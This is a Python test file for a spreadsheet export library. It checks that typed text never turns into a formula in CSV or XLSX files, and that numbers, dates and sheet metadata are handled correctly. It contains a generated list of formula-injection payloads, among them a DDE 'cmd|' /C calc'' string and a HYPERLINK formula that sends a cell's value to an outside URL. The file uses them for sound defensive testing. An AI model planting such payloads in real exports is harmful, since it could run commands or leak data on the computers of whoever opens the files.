"""Tables for a spreadsheet: whatever somebody typed is text, and numbers and days stay what they are."""

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from vlechtwerk.sheets import Cell, TextTooLong, csv_bytes, xlsx_bytes
from vlechtwerk.sheets.cells import LONGEST_TEXT

BEGINNINGS = ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠", "﹢", "﹣", "﹦", "﹫"]
IN_FRONT = ["", " ", "\u00a0", "\u200b", "\ufeff", "\u2003", "\x01"]
FORMULAS = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://example.org?x="&A1)', "SUM(1;1)", "", '"";=1+1', "1\r\n=2"]
PAYLOADS = [
    front + begin + formula
    for front in IN_FRONT
    for begin in BEGINNINGS
    for formula in FORMULAS
    if not (front and begin in "\t\r\n\0")
]
PLAIN = ["An Peeters", "3 = 2 + 1", "a@example.org", "twaalf-vijf", "’s ochtends", "#N/A", "TRUE", "1/2", ""]


def test_there_are_enough_payloads_to_mean_something() -> None:
    assert len(PAYLOADS) > 400


def test_no_text_becomes_a_formula_in_a_workbook() -> None:
    cells = [cell for row in _opened(xlsx_bytes("Proef", PAYLOADS[:9], [[one] for one in PAYLOADS])) for cell in row]
    assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}
    assert {str(cell.value)[0] for cell in cells if cell.value is not None} == {"'"}


def test_no_part_of_a_workbook_holds_a_formula() -> None:
    with zipfile.ZipFile(io.BytesIO(xlsx_bytes("Proef", ["Tekst"], [[one] for one in PAYLOADS]))) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet
    assert b"<f " not in sheet


def test_every_text_that_could_run_has_an_apostrophe_in_front_in_csv() -> None:
    heading, *rows = _read(csv_bytes(["=1"], [[one] for one in PAYLOADS]))
    assert heading == ["'=1"]
    assert len(rows) == len(PAYLOADS)
    assert [row for row in rows if len(row) != 1 or not row[0].startswith("'")] == []


def test_every_cell_of_csv_stands_in_quotes_so_that_a_text_cannot_begin_another_cell() -> None:
    assert csv_bytes(["a"], [['x";=1+1;"', None]]).decode("utf-8-sig") == '"a"\r\n"x"";=1+1;""",""\r\n'.replace(
        ",", ";"
    )


@pytest.mark.parametrize("text", PLAIN)
def test_an_ordinary_text_stays_as_it_was(text: str) -> None:
    assert _read(csv_bytes(["Tekst"], [[text, "."]]))[1] == [text, "."]
    (cell, _point) = _opened(xlsx_bytes("Proef", ["Tekst"], [[text, "."]]))[1]
    assert (cell.value or "", cell.data_type) == (text, "s" if text else "n")


def test_a_number_below_zero_stays_a_number() -> None:
    row: list[Cell] = [-5, Decimal("-1250.50"), 2.5]
    assert _read(csv_bytes(["a", "b", "c"], [row]))[1] == ["-5", "-1250,50", "2,5"]
    assert [cell.value for cell in _opened(xlsx_bytes("Proef", ["a", "b", "c"], [row]))[1]] == [-5, -1250.5, 2.5]


def test_a_day_stays_a_day_and_a_moment_is_that_of_the_clock_in_brussels() -> None:
    row: list[Cell] = [date(2026, 4, 2), datetime(2026, 7, 1, 22, 30, tzinfo=UTC)]
    assert _read(csv_bytes(["a", "b"], [row]))[1] == ["2026-04-02", "2026-07-02 00:30:00"]
    day, moment = _opened(xlsx_bytes("Proef", ["a", "b"], [row]))[1]
    assert (day.value, day.number_format) == (datetime(2026, 4, 2), "yyyy-mm-dd")  # noqa: DTZ001 - a cell has no zone
    assert moment.value == datetime(2026, 7, 2, 0, 30)  # noqa: DTZ001 - a cell has no zone


def test_a_moment_without_a_time_zone_is_refused() -> None:
    with pytest.raises(ValueError, match="time zone"):
        csv_bytes(["a"], [[datetime(2026, 4, 2)]])  # noqa: DTZ001 - this is what is refused


def test_a_text_that_just_fits_is_kept_whole_and_a_longer_one_is_refused() -> None:
    assert _opened(xlsx_bytes("Proef", ["a"], [["x" * LONGEST_TEXT]]))[1][0].value == "x" * LONGEST_TEXT
    with pytest.raises(TextTooLong):
        xlsx_bytes("Proef", ["a"], [["x" * (LONGEST_TEXT + 1)]])


def test_half_a_character_does_not_stop_an_export() -> None:
    assert _read(csv_bytes(["a"], [["A\ud800B\x07"]]))[1] == ["A\ufffdB\ufffd"]


def test_a_workbook_does_not_tell_who_made_it() -> None:
    properties = load_workbook(io.BytesIO(xlsx_bytes("Proef", ["a"], []))).properties
    told = (properties.creator, properties.lastModifiedBy, properties.title, properties.description)
    assert told == ("Vlechtwerk", None, None, None)


def test_the_tab_of_the_sheet_has_a_name_that_fits() -> None:
    assert load_workbook(io.BytesIO(xlsx_bytes("Wie keek/las: [1]?" + "x" * 40, ["a"], []))).sheetnames == [
        "Wie keek las   1  xxxxxxxxxxxxx"
    ]


def _opened(content: bytes) -> list[tuple[Any, ...]]:
    """The cells of the only sheet of a workbook, row by row."""
    sheet = load_workbook(io.BytesIO(content)).active
    assert isinstance(sheet, Worksheet)
    return list(sheet.iter_rows())


def _read(content: bytes) -> list[list[str]]:
    """The rows of a CSV file."""
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))
